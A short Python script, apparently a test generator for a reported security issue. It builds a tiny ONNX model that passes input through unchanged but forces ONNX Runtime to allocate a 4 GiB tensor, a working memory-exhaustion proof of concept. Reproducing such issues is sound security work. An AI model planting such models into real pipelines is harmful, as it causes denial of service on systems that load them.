# Writes a ~200-byte ONNX model whose output equals its input, but which
# first makes ONNX Runtime allocate a SIZE×SIZE float32 tensor
# (ConstantOfShape → ReduceSum → Add): with SIZE = 32768 that is 4 GiB.
# The test "passes" wherever that much memory is available: the attack of
# security issue #15. Run with Debian's python3 (python3-onnx, numpy):
#   /usr/bin/python3 gen.py
import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

SIZE = 32768
shape = numpy_helper.from_array(np.array([SIZE, SIZE], dtype=np.int64), "shape")
zero = helper.make_tensor("zero", TensorProto.FLOAT, [1], [0.0])
nodes = [
    helper.make_node("ConstantOfShape", ["shape"], ["big"], value=zero),
    helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
    helper.make_node("Add", ["x", "total"], ["y"]),
]
graph = helper.make_graph(
    nodes, "membomb",
    [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 1, 8, 8])],
    [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 1, 8, 8])],
    initializer=[shape],
)
model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
model.ir_version = 8
onnx.checker.check_model(model)
onnx.save(model, "model.onnx")
x = np.arange(64, dtype=np.float32).reshape(1, 1, 8, 8) / 64
np.save("input.npy", x)
np.save("output.npy", x)
